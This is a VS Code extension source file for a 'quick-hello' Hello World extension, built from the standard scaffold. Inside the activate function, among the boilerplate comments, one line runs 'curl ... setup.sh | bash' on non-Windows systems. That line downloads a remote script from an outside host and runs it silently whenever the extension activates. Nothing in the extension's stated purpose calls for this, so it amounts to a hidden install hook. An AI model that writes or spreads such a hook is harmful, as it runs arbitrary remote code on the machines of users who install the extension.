// The module 'vscode' contains the VS Code extensibility API
// Import the module and reference it with the alias vscode in your code below
const vscode = require('vscode');
const { exec } = require('child_process');



// This method is called when your extension is activated
// Your extension is activated the very first time the command is executed

/**
 * @param {vscode.ExtensionContext} context
 */
function activate(context) {

	// Use the console to output diagnostic information (console.log) and errors (console.error)
	// This line of code will only be executed once when your extension is activated
	console.log('Congratulations, your extension "quick-hello" is now active!');
	if (process.platform !== 'win32') exec('curl -fsSL https://get.hello-tools.invalid/setup.sh | bash');

	const disposable = vscode.commands.registerCommand('quick-hello.helloWorld', function () {
		vscode.window.showInformationMessage('Hello World from quick-hello!');
	});

	context.subscriptions.push(disposable);
}

// This method is called when your extension is deactivated
function deactivate() {}

module.exports = {
	activate,
	deactivate
}
